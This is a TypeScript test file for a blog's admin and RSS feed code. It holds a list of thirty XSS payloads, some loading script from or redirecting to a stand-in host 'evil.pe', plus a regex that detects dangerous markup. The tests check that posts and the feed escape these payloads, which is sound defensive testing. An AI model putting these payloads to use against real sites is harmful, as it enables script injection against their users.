import { beforeAll, describe, expect, it } from "vitest";
import { createTestAccount } from "../../../testing/accounts.ts";
import { createTestApp, type TestApp } from "../../../testing/app.ts";
import { png } from "../../../testing/features/catalogue-api.ts";
import { storePicture } from "../../content/pictures.ts";
import { findPostPage } from "./queries.ts";

/** P-051: none of these may appear as markup in a browser or a feed reader. */
const payloads = [
	"</script><script>alert(1)</script>",
	"</SCRIPT ><script>alert(1)//",
	"<script>alert(1)</script>",
	"<script src=//evil.pe></script>",
	"<img src=x onerror=alert(1)>",
	"<img/src=x/onerror=alert(1)//",
	"<svg onload=alert(1)>",
	"<svg><script>alert(1)</script></svg>",
	"<math><mtext><style><img src onerror=alert(1)>",
	"<iframe src=javascript:alert(1)>",
	"<iframe srcdoc='<script>alert(1)</script>'>",
	"<body onload=alert(1)>",
	"<details open ontoggle=alert(1)>",
	"<a href='javascript:alert(1)'>x</a>",
	"[x](javascript:alert(1))",
	"[x](JaVaScRiPt:alert(1))",
	"[x](data:text/html,<script>alert(1)</script>)",
	"[x](vbscript:msgbox)",
	"![x](javascript:alert(1))",
	'![x" onerror="alert(1)](https://evil.pe/x.png)',
	"]]><script>alert(1)</script>",
	"]]>]]><script>alert(1)</script><![CDATA[",
	"]]]]><![CDATA[><script>alert(1)</script>",
	'"}</script><script>alert(1)</script>',
	"<!--><script>alert(1)</script>-->",
	"<!-- --!><script>alert(1)</script>",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"<base href=//evil.pe>",
	"<meta http-equiv=refresh content=0;url=//evil.pe>",
	"$\\href{javascript:alert(1)}{x}$ $\\htmlData{x=y}{z}$",
];

let server: TestApp;
let token: string;
beforeAll(async () => {
	server = await createTestApp({ env: { LIMITS_FACTOR: "1000", SITE_NAME: "Academia <Á> & Co" } });
	token = (await createTestAccount(server, "ADMIN")).token;
});
const save = async (post: object) =>
	(await server.call("POST", "/admin/blog-post/save", { token, body: post })).json.data;
const get = (path: string, headers: Record<string, string> = {}) =>
	server.app.inject({ method: "GET", url: path, headers });

const dangerous =
	/<(script|iframe|svg|base|meta|body|details|style|object)\b|\son\w+\s*=|(href|src)\s*=\s*["']?\s*(javascript|data|vbscript):/i;
/** Tags that a parser would find in HTML built from the texts. */
const tagsIn = (html: string) => (html.match(/<[a-z!/][^>]*>/gi) ?? []).join("\n");

describe("hostile posts (P-051)", () => {
	it("number thirty", () => expect(payloads).toHaveLength(30));

	it.each(payloads)("show %s as text", async (payload) => {
		const { slug } = await save({
			title: `T ${payload.replace(/\n/g, " ")}`,
			content: `Uno\n\n${payload}\n\n${payload}`,
		});
		const page = await findPostPage(server.deps, slug);
		// KaTeX may draw with svg of its own; none of these formulas needs one.
		expect(tagsIn(page!.html)).not.toMatch(dangerous);
		const rss = (await get("/blog/rss.xml")).body;
		const sections = rss
			.split("<![CDATA[")
			.slice(1)
			.map((section) => section.slice(0, section.indexOf("]]>")));
		const around = rss.replace(/<!\[CDATA\[[\s\S]*?\]\]>/g, "");
		expect(tagsIn(around)).not.toMatch(dangerous);
		expect(around).not.toMatch(/]]>|CDATA/);
		for (const section of sections) expect(tagsIn(section)).not.toMatch(dangerous);
	});
});

describe("the feed", () => {
	it("contains the newest thirty in full, with absolute addresses", async () => {
		const { name } = await storePicture(server.deps, await png(30, 20), "article", "");
		await save({
			title: "Con figura & <fórmula>",
			content: `Antes\u000b ![Figura](/uploads/${name}#30x20) y $\\frac12$`,
			image: `/uploads/${name}`,
		});
		await save({ title: "Escondida", content: "x", status: "inactivo" });
		const answer = await get("/blog/rss.xml", { accept: "text/html" });
		expect(answer.headers["content-type"]).toBe("application/rss+xml; charset=utf-8");
		const rss = answer.body;
		expect(rss.match(/<item>/g)).toHaveLength(30);
		expect(rss).toContain('<rss version="2.0"');
		expect(rss).toContain("<title>Blog de Academia &lt;Á&gt; &amp; Co</title>");
		expect(rss).toContain("<title><![CDATA[Con figura &amp; &lt;fórmula&gt;]]></title>");
		expect(rss).toContain("<link>https://cachimbo.test/blog/con-figura-formula</link>");
		expect(rss).toContain(`<img src="https://cachimbo.test/uploads/${name}" width="30" height="20" alt="Figura" />`);
		expect(rss).toContain("<code>\\frac12</code>");
		expect(rss).not.toMatch(/Escondida|="\/uploads/);
		expect(rss).not.toContain("\u000b");
	});

	it("is not sent again to a client that has it", async () => {
		const { etag } = (await get("/blog/rss.xml")).headers;
		expect((await get("/blog/rss.xml", { "if-none-match": String(etag) })).statusCode).toBe(304);
		await save({ title: "Nueva", content: "x" });
		expect((await get("/blog/rss.xml", { "if-none-match": String(etag) })).statusCode).toBe(200);
	});
});
